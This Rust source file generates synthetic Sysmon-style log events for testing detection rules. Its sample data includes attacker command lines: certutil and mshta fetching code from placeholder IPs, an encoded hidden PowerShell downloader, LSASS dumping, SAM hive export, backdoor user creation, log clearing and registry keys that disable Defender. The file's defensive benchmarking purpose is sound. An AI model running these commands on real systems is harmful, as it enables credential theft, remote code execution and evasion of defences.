//! A seeded generator of Sysmon-like events (JSON lines, flat fields as Winlogbeat-style
//! pipelines write them). Mostly benign activity with a sprinkling of attacker tradecraft, so
//! rules both match and miss. The same seed always gives the same bytes.

use std::io::Write;

use serde_json::json;

/// xorshift64*: tiny, fast and good enough to vary benchmark data.
pub struct Rng(u64);

impl Rng {
    pub fn new(seed: u64) -> Rng {
        Rng(seed.wrapping_mul(0x9E37_79B9_7F4A_7C15) | 1)
    }
    pub fn next_u64(&mut self) -> u64 {
        let mut x = self.0;
        x ^= x >> 12;
        x ^= x << 25;
        x ^= x >> 27;
        self.0 = x;
        x.wrapping_mul(0x2545_F491_4F6C_DD1D)
    }
    pub fn below(&mut self, n: usize) -> usize {
        (self.next_u64() % n as u64) as usize
    }
    pub fn pick<'a>(&mut self, items: &[&'a str]) -> &'a str {
        items[self.below(items.len())]
    }
    pub fn hex(&mut self, len: usize) -> String {
        let mut s = String::with_capacity(len);
        while s.len() < len {
            s.push_str(&format!("{:016X}", self.next_u64()));
        }
        s.truncate(len);
        s
    }
}

const IMAGES: &[&str] = &[
    "C:\\Windows\\System32\\svchost.exe",
    "C:\\Windows\\explorer.exe",
    "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
    "C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE",
    "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
    "C:\\Windows\\System32\\cmd.exe",
    "C:\\Windows\\System32\\conhost.exe",
    "C:\\Windows\\System32\\rundll32.exe",
    "C:\\Windows\\System32\\reg.exe",
    "C:\\Windows\\System32\\schtasks.exe",
    "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe",
    "C:\\Windows\\System32\\net.exe",
    "C:\\Windows\\System32\\certutil.exe",
    "C:\\Windows\\System32\\msiexec.exe",
    "C:\\Program Files\\OpsPortal\\portal.exe",
    "C:\\Users\\Public\\Downloads\\update.exe",
    "C:\\Windows\\System32\\whoami.exe",
    "C:\\Windows\\System32\\netsh.exe",
    "C:\\Windows\\System32\\mshta.exe",
    "C:\\Windows\\System32\\wevtutil.exe",
];

const COMMANDS: &[&str] = &[
    "\"{img}\" -k netsvcs -p -s Schedule",
    "\"{img}\" --type=renderer --field-trial-handle=1620,3344 --lang=en-US --enable-auto-scrollbars",
    "{img} /c whoami /all",
    "{img} -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA",
    "{img} save HKLM\\SAM C:\\ProgramData\\sam.save",
    "{img} /create /tn Updater /tr C:\\Users\\Public\\update.exe /sc minute /mo 5",
    "{img} user backup P@ssw0rd123 /add",
    "{img} -urlcache -split -f http://198.51.100.23/a.exe C:\\Users\\Public\\a.exe",
    "{img} interface portproxy add v4tov4 listenport=8443 connectaddress=10.1.1.1 connectport=443",
    "{img} cl Security",
    "{img} javascript:a=GetObject(\"script:http://203.0.113.9/x.sct\").Exec();close()",
    "{img} C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\Temp\\lsass.dmp full",
    "\"{img}\" /i https://updates.example.net/agent.msi /quiet",
    "{img} /d /c \"echo Build finished at %TIME% > C:\\ci\\log.txt\"",
    "\"{img}\" -Embedding",
];

const USERS: &[&str] = &["CORP\\alice", "CORP\\bob", "NT AUTHORITY\\SYSTEM", "CORP\\svc-backup", "CORP\\carol"];
const HOSTS: &[&str] =
    &["ws-0142.corp.example.net", "ws-0077.corp.example.net", "jump-01.ops.example.net", "dc-02.corp.example.net"];
const DOMAINS: &[&str] = &[
    "www.example.com",
    "login.microsoftonline.com",
    "updates.example.net",
    "raw.githubusercontent.com",
    "pastebin.com",
    "ngrok.io",
    "cdn.example.org",
];
const FILES: &[&str] = &[
    "C:\\Users\\alice\\AppData\\Local\\Temp\\tmp{n}.tmp",
    "C:\\Windows\\Temp\\{n}.ps1",
    "C:\\ProgramData\\Microsoft\\Windows\\Start Menu\\Programs\\StartUp\\evil{n}.lnk",
    "C:\\Users\\bob\\Documents\\report-{n}.docx",
    "C:\\Windows\\System32\\drivers\\{n}.sys",
    "C:\\Users\\Public\\{n}.dll",
];
const KEYS: &[&str] = &[
    "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\Updater{n}",
    "HKU\\S-1-5-21-1-2-3-1001\\Software\\Microsoft\\Office\\16.0\\Common\\{n}",
    "HKLM\\System\\CurrentControlSet\\Services\\WinDefend\\Start",
    "HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender\\DisableAntiSpyware",
];
const DLLS: &[&str] = &[
    "C:\\Windows\\System32\\ntdll.dll",
    "C:\\Windows\\System32\\kernel32.dll",
    "C:\\Windows\\System32\\dbghelp.dll",
    "C:\\Windows\\System32\\vaultcli.dll",
    "C:\\Users\\Public\\version.dll",
];

/// Writes `count` events; returns the bytes written.
pub fn write_events(out: &mut dyn Write, count: u64, seed: u64) -> std::io::Result<u64> {
    let mut rng = Rng::new(seed);
    let mut written = 0u64;
    let base = 1_767_225_600u64; // 2026-01-01T00:00:00Z
    let mut line = Vec::with_capacity(2048);
    for i in 0..count {
        let secs = base + i / 20;
        let ts = jiff::Timestamp::from_second(secs as i64).map(|t| t.to_string()).unwrap_or_default();
        let img = rng.pick(IMAGES);
        let parent = rng.pick(IMAGES);
        let host = rng.pick(HOSTS);
        let user = rng.pick(USERS);
        let guid = format!("{{{}-{}-{}-{}-{}}}", rng.hex(8), rng.hex(4), rng.hex(4), rng.hex(4), rng.hex(12));
        let hashes = format!("SHA1={},MD5={},SHA256={},IMPHASH={}", rng.hex(40), rng.hex(32), rng.hex(64), rng.hex(32));
        let n = rng.below(100_000).to_string();
        let roll = rng.below(100);
        let (id, data) = match roll {
            0..=44 => {
                let cmd = rng.pick(COMMANDS).replace("{img}", img);
                (
                    1,
                    json!({"Image": img, "CommandLine": cmd, "ParentImage": parent,
                    "ParentCommandLine": format!("\"{parent}\""), "OriginalFileName": img.rsplit('\\').next().unwrap_or(img),
                    "CurrentDirectory": "C:\\Windows\\system32\\", "IntegrityLevel": "High", "Hashes": hashes,
                    "ProcessGuid": guid, "ProcessId": rng.below(65536), "LogonId": "0x3e7",
                    "Company": "Microsoft Corporation", "Product": "Microsoft Windows Operating System",
                    "Description": "Windows host process", "FileVersion": "10.0.19041.1"}),
                )
            }
            45..=54 => (
                3,
                json!({"Image": img, "DestinationIp": format!("{}.{}.{}.{}", rng.below(223) + 1, rng.below(255), rng.below(255), rng.below(255)),
                    "DestinationPort": ([443, 80, 445, 3389, 22, 4444][rng.below(6)]), "SourceIp": "10.0.3.17", "SourcePort": rng.below(65535),
                    "Protocol": "tcp", "Initiated": "true", "DestinationHostname": rng.pick(DOMAINS), "ProcessGuid": guid}),
            ),
            55..=69 => (
                7,
                json!({"Image": img, "ImageLoaded": rng.pick(DLLS), "Hashes": hashes, "Signed": "true",
                    "Signature": "Microsoft Windows", "SignatureStatus": "Valid", "ProcessGuid": guid, "OriginalFileName": "ntdll.dll"}),
            ),
            70..=74 => (
                10,
                json!({"SourceImage": img, "TargetImage": "C:\\Windows\\system32\\lsass.exe", "GrantedAccess": (["0x1010", "0x1fffff", "0x1400"][rng.below(3)]),
                    "CallTrace": "C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|C:\\Windows\\System32\\KERNELBASE.dll+2c13e|UNKNOWN(00000000001A0B2C)",
                    "SourceProcessGUID": guid}),
            ),
            75..=84 => (
                11,
                json!({"Image": img, "TargetFilename": rng.pick(FILES).replace("{n}", &n), "ProcessGuid": guid,
                    "CreationUtcTime": ts}),
            ),
            85..=92 => (
                13,
                json!({"EventType": "SetValue", "Image": img, "TargetObject": rng.pick(KEYS).replace("{n}", &n),
                    "Details": (["DWORD (0x00000001)", "C:\\Users\\Public\\update.exe", "Binary Data"][rng.below(3)]), "ProcessGuid": guid}),
            ),
            93..=97 => (
                22,
                json!({"Image": img, "QueryName": rng.pick(DOMAINS), "QueryStatus": "0",
                    "QueryResults": "type:  5 cdn.example.org;::ffff:93.184.216.34;", "ProcessGuid": guid}),
            ),
            _ => (5, json!({"Image": img, "ProcessGuid": guid, "ProcessId": rng.below(65536)})),
        };
        let mut ev = json!({"@timestamp": ts, "Channel": "Microsoft-Windows-Sysmon/Operational",
            "Provider_Name": "Microsoft-Windows-Sysmon", "EventID": id, "Computer": host, "User": user,
            "RecordNumber": i + 1, "UtcTime": ts});
        if let (Some(m), serde_json::Value::Object(d)) = (ev.as_object_mut(), data) {
            m.extend(d);
        }
        line.clear();
        serde_json::to_writer(&mut line, &ev)?;
        line.push(b'\n');
        out.write_all(&line)?;
        written += line.len() as u64;
    }
    Ok(written)
}
